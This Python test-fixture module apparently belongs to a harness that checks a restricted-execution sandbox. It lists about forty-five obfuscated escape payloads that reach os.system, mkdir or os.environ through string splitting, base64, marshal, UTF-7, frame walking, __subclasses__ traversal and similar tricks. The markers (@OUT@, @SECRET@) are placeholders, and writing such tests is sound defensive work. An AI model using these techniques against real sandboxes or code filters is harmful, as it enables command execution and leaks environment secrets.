"""The same ends behind names, strings and machinery that hide them from a reader of the code."""

from attacks.payload import Payload

OBFUSCATED = (
    Payload(
        "split-names",
        "obfuscated",
        "file",
        "getattr(__import__('o' + 's'), 'sys' + 'tem')('touch @OUT@')",
    ),
    Payload(
        "module-of-module",
        "obfuscated",
        "file",
        "import re\nre.enum.sys.modules['os'].system('touch @OUT@')",
    ),
    Payload(
        "attrgetter",
        "obfuscated",
        "leak",
        "import operator, random\n"
        "get = operator.attrgetter('__init__.__globals__')\n"
        "print(dict(get(random.Random)['_os'].environ))",
    ),
    Payload(
        "subclasses",
        "obfuscated",
        "leak",
        "for c in ().__class__.__base__.__subclasses__():\n"
        "    if c.__name__ == '_wrap_close':\n"
        "        print(c.__init__.__globals__['environ'])",
    ),
    Payload(
        "match-pattern",
        "obfuscated",
        "leak",
        "import random\n"
        "match random.Random.seed:\n"
        "    case object(__globals__=g):\n"
        "        print(dict(g['_os'].environ))",
    ),
    Payload(
        "format-string",
        "obfuscated",
        "leak",
        "import random\nprint('{0.__globals__[_os].environ}'.format(random.Random.seed))",
    ),
    Payload(
        "base64-exec",
        "obfuscated",
        "file",
        "import base64\n"
        "code = base64.b64encode(b\"import os; os.system('touch @OUT@')\")\n"
        "exec(base64.b64decode(code))",
    ),
    Payload(
        "type-hints",
        "obfuscated",
        "file",
        "import typing\n"
        "hint = \"__import__('os').system('touch @OUT@')\"\n"
        "try:\n    typing.get_type_hints(type('A', (), {'__annotations__': {'x': hint}}))\n"
        "except TypeError:\n    pass",
    ),
    Payload(
        "generator-frame",
        "obfuscated",
        "file",
        "g = (x for x in [1])\ng.gi_frame.f_builtins['__import__']('os').system('touch @OUT@')",
    ),
    Payload(
        "traceback-frame",
        "obfuscated",
        "file",
        "class Out:\n"
        "    def __enter__(self): return self\n"
        "    def __exit__(self, kind, error, tb):\n"
        "        tb.tb_frame.f_builtins['__import__']('os').system('touch @OUT@')\n"
        "        return True\n"
        "with Out():\n    1 / 0",
    ),
    Payload(
        "unicode-names",
        "obfuscated",
        "file",
        "import \uff4f\uff53\n\uff4f\uff53.\uff53\uff59stem('touch @OUT@')",
    ),
    Payload(
        "method-caller",
        "obfuscated",
        "file",
        """\
import operator, random
operator.methodcaller('mkdir', '@OUT@')(getattr(random, '_' + 'os'))
""",
    ),
    Payload(
        "reduce-getattr",
        "obfuscated",
        "file",
        """\
import functools, re
path = ['enum', 'sys', 'modules']
functools.reduce(getattr, path, re)['os'].mkdir('@OUT@')
""",
    ),
    Payload(
        "formatter-field",
        "obfuscated",
        "leak",
        """\
import random, string
field, _ = string.Formatter().get_field('0.__globals__', (random.Random.seed,), {})
print(dict(field['_os'].environ))
""",
    ),
    Payload(
        "private-import",
        "obfuscated",
        "file",
        """\
from random import _os as tools
tools.mkdir('@OUT@')
""",
    ),
    Payload(
        "module-under-another-name",
        "obfuscated",
        "file",
        """\
import statistics as figures
figures.sys.modules['posix'].mkdir('@OUT@')
""",
    ),
    Payload(
        "codecs-of-json",
        "obfuscated",
        "leak",
        """\
import json
print(json.codecs.open('@SECRET@').read())
""",
    ),
    Payload(
        "builtins-of-enum",
        "obfuscated",
        "file",
        """\
import enum
enum.bltns.__import__('os').mkdir('@OUT@')
""",
    ),
    Payload(
        "exec-helper-of-dataclasses",
        "obfuscated",
        "file",
        """\
import dataclasses
make = getattr(dataclasses, '_create_fn', None)
make('f', [], ['import os', "os.mkdir('@OUT@')"])()
""",
    ),
    Payload(
        "decorators-without-a-call",
        "obfuscated",
        "file",
        """\
@exec
@"import os; os.mkdir('@OUT@') #{}".format
class Nothing: pass
""",
    ),
    Payload(
        "alias-of-exec",
        "obfuscated",
        "file",
        """\
run = [exec][0]
run("import os; os.mkdir('@OUT@')")
""",
    ),
    Payload(
        "default-argument",
        "obfuscated",
        "file",
        "(lambda load=__import__: load('os'))().mkdir('@OUT@')",
    ),
    Payload(
        "builtins-by-key",
        "obfuscated",
        "file",
        """\
table = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
table['__im' + 'port__']('os').mkdir('@OUT@')
""",
    ),
    Payload(
        "set-name-hook",
        "obfuscated",
        "file",
        """\
class Hook:
    def __set_name__(self, owner, name):
        __import__('os').mkdir('@OUT@')
class Plain:
    attribute = Hook()
""",
    ),
    Payload(
        "rotated-name",
        "obfuscated",
        "file",
        """\
import codecs
__import__(codecs.decode('bf', 'rot13')).mkdir('@OUT@')
""",
    ),
    Payload(
        "marshalled-code",
        "obfuscated",
        "file",
        """\
import marshal
code = marshal.dumps(compile("import os; os.mkdir('@OUT@')", '', 'exec'))
type(lambda: 0)(marshal.loads(code), {})()
""",
    ),
    Payload(
        "replaced-constants",
        "obfuscated",
        "file",
        """\
def f(): return __import__('a').mkdir('b')
f.__code__ = f.__code__.replace(co_consts=(None, 'os', '@OUT@'))
f()
""",
    ),
    Payload(
        "copy-by-reduce",
        "obfuscated",
        "file",
        """\
import copy, random
class Odd:
    def __reduce__(self): return random._os.mkdir, ('@OUT@',)
copy.copy(Odd())
""",
    ),
    Payload(
        "inside-an-f-string",
        "obfuscated",
        "leak",
        "print(f\"{__import__('os').environ!r}\")",
    ),
    Payload(
        "stack-of-inspect",
        "obfuscated",
        "file",
        """\
import inspect
inspect.currentframe().f_back.f_builtins['__import__']('os').mkdir('@OUT@')
""",
    ),
    Payload(
        "coroutine-frame",
        "obfuscated",
        "file",
        """\
async def f(): pass
c = f()
builtins = c.cr_frame.f_builtins
c.close()
builtins['__import__']('os').mkdir('@OUT@')
""",
    ),
    Payload(
        "exception-group-frame",
        "obfuscated",
        "file",
        """\
try:
    try:
        1 / 0
    except ZeroDivisionError as e:
        raise ExceptionGroup('', [e])
except* ZeroDivisionError as group:
    frame = group.exceptions[0].__traceback__.tb_frame
    frame.f_builtins['__import__']('os').mkdir('@OUT@')
""",
    ),
    Payload(
        "object-of-the-collector",
        "obfuscated",
        "leak",
        """\
import gc
for o in gc.get_objects():
    if type(o).__name__ == '_Environ': print(dict(o))
""",
    ),
    Payload(
        "breakpoint-hook",
        "obfuscated",
        "file",
        """\
import os, sys
sys.breakpointhook = os.mkdir
breakpoint('@OUT@')
""",
    ),
    Payload(
        "evaluated-signature",
        "obfuscated",
        "file",
        """\
import inspect
def f(x: "__import__('os').mkdir('@OUT@')"): pass
inspect.signature(f, eval_str=True)
""",
    ),
    Payload(
        "timed-text",
        "obfuscated",
        "file",
        """\
import timeit
timeit.timeit("os.mkdir('@OUT@')", 'import os', number=1)
""",
    ),
    Payload(
        "documentation-test",
        "obfuscated",
        "file",
        """\
import doctest
doctest.run_docstring_examples("\\n>>> import os; os.mkdir('@OUT@')\\n", {})
""",
    ),
    Payload(
        "interactive-interpreter",
        "obfuscated",
        "file",
        """\
import code
code.InteractiveInterpreter().runsource("__import__('os').mkdir('@OUT@')")
""",
    ),
    Payload(
        "factory-of-logging",
        "obfuscated",
        "file",
        """\
import logging.config
logging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': 'os.mkdir', 'path': '@OUT@'}}})
""",
    ),
    Payload(
        "resolved-name",
        "obfuscated",
        "file",
        """\
import pkgutil
pkgutil.resolve_name('os:mkdir')('@OUT@')
""",
    ),
    Payload(
        "star-import",
        "obfuscated",
        "file",
        """\
from os import *
mkdir('@OUT@')
""",
    ),
    Payload(
        "source-in-utf-7",
        "obfuscated",
        "file",
        "exec(b\"# coding: utf-7\\n+AF8AXw-import__('+AG8Acw-').mkdir('@OUT@')\")",
    ),
    Payload(
        "overwritten-builtin",
        "obfuscated",
        "leak",
        """\
import builtins
seen = []
class Text(str):
    def __eq__(self, other): return True
    def __hash__(self): return hash('os')
print(__import__(Text('os')).environ)
""",
    ),
    Payload(
        "module-spec",
        "obfuscated",
        "file",
        """\
import importlib.util
spec = importlib.util.find_spec('posix')
spec.loader.load_module('posix').mkdir('@OUT@')
""",
    ),
    Payload(
        "subinterpreter",
        "obfuscated",
        "file",
        """\
try: import _xxsubinterpreters as other
except ImportError: import _interpreters as other
run = getattr(other, 'run_string', None) or other.exec
run(other.create(), "import os; os.mkdir('@OUT@')")
""",
    ),
)
